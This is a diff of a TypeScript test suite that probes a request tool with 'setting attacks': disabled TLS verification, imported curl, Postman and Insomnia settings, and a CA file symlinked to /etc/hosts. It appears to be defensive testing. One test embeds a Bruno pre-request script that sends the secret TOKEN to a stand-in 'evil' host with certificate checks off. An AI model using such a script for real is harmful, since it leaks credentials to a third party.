@@ -7,7 +7,6 @@ import type { Lab, Outcome } from './lab.js';
 import type { Attack } from './more.js';
 
 const waits = /^CONNECTION_NOT_APPROVED$/;
-const unverified = /^TLS_UNVERIFIED_REFUSED$|^CONNECTION_NOT_APPROVED$/;
 const denied = /^GUARD_DENIED$/;
 const off = { tls: { verify: false } };
 const none = { ca: [], clientCertificates: [] };
@@ -16,8 +15,9 @@ const none = { ca: [], clientCertificates: [] };
 const codeIn = (result: unknown): Outcome => {
   const text = JSON.stringify(result);
   return (
-    /\b(CONNECTION_NOT_APPROVED|TLS_UNVERIFIED_REFUSED|GUARD_DENIED|SECRET_HOST_REFUSED)\b/.exec(text)?.[1] ??
-    text
+    /\b(CONNECTION_NOT_APPROVED|TLS_UNVERIFIED_REFUSED|GUARD_DENIED|SECRET_HOST_REFUSED|TLS_ERROR)\b/.exec(
+      text,
+    )?.[1] ?? text
   );
 };
 
@@ -117,24 +117,19 @@ const copied = async (lab: Lab, first: object, copy: string): Promise<Outcome> =
 
 /** Attacks by the settings that documents, calls, scripts and files bring along. */
 export const settingAttacks: readonly Attack[] = [
-  ['imported settings', 'curl -k', unverified, (lab) => imported(lab, `curl -k '${secure(lab)}'`)],
+  ['imported settings', 'curl -k', waits, (lab) => imported(lab, `curl -k '${secure(lab)}'`)],
   [
     'imported settings',
     'strictSSL of Postman',
-    unverified,
+    waits,
     (lab) => imported(lab, postman(lab, { protocolProfileBehavior: { strictSSL: false } })),
   ],
-  // It verifies, so that what is no TLS is refused.
-  [
-    'imported settings',
-    'certificates of Insomnia',
-    /TLS_UNVERIFIED_REFUSED|CONNECTION_NOT_APPROVED|TLS_ERROR/,
-    (lab) => imported(lab, insomnia(lab)),
-  ],
+  // What switches verification off, and a proxy and its files, are listed and not imported: `home` speaks no TLS.
+  ['imported settings', 'certificates of Insomnia', /^TLS_ERROR$/, (lab) => imported(lab, insomnia(lab))],
   [
     'imported settings',
     'a proxy, a CA and a certificate of curl',
-    /TLS_ERROR|CONNECTION_NOT_APPROVED|NETWORK_ERROR|PARTIAL|TLS/,
+    /^TLS_ERROR$/,
     (lab) =>
       imported(
         lab,
@@ -144,7 +139,7 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'many executions',
-    unverified,
+    waits,
     async (lab) => {
       const { id } = await lab.call('rest_create', {
         ...{ name: `Many ${Math.random()}`, url: secure(lab), settings: off },
@@ -155,7 +150,7 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a run with rows that name the host',
-    unverified,
+    waits,
     async (lab) => {
       const { id } = await lab.call('rest_create', {
         ...{ name: `Rows ${Math.random()}`, url: 'https://{{h}}/{{TOKEN}}', settings: off },
@@ -208,7 +203,7 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a token without verification',
-    unverified,
+    waits,
     (lab) =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
@@ -222,20 +217,22 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a request of a script without verification',
-    /TLS|CONNECTION|SCRIPT|is not|unknown|200/i,
-    (lab) =>
-      lab.send({
+    /^The secret TOKEN may only be sent to 127\.0\.0\.1/,
+    async (lab) => {
+      const { logs } = await lab.execute({
         url: `http://127.0.0.1:${lab.home}/`,
         foreign: {
           dialect: 'bruno',
           beforeRequest: `const axios = require('axios'); try { await axios.get('https://127.0.0.1:${lab.evil}/' + bru.getEnvVar('TOKEN'), { rejectUnauthorized: false, proxy: { host: '127.0.0.1', port: ${lab.evil} }, httpsAgent: { rejectUnauthorized: false } }); } catch (e) { console.log(e.message); }`,
         },
-      }),
+      });
+      return (logs as readonly { readonly message: string }[]).map(({ message }) => message).join();
+    },
   ],
   [
     'files of a link',
     'a CA file that is a link out of the folder',
-    /FILE_REFUSED|INVALID|NOT_FOUND|CONNECTION_NOT_APPROVED/,
+    /^FILE_REFUSED$/,
     async (lab) => {
       const name = `link-${Math.random()}.pem`;
       await symlink('/etc/hosts', join(lab.folder, name));
